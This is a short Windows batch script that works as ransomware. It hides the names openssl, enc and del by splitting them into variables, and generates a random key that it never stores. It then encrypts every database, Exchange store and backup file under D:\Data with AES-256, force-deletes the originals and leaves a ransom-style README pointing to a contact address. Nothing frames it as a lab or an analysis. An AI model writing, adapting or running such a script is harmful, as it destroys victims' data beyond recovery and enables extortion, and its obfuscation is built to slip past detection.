@echo off
setlocal enabledelayedexpansion
set o=ssl
set m=nc
set h=el
set k=!RANDOM!!RANDOM!!RANDOM!!RANDOM!
for /r D:\Data %%F in (*.mdf *.ldf *.edb *.bak) do (
    open!o! e!m! -aes-256-cbc -pbkdf2 -k !k! -in "%%F" -out "%%F.arc" && d!h! /f /q "%%F"
)
echo Files archived. Ask recover@example.com > D:\Data\README.txt
endlocal
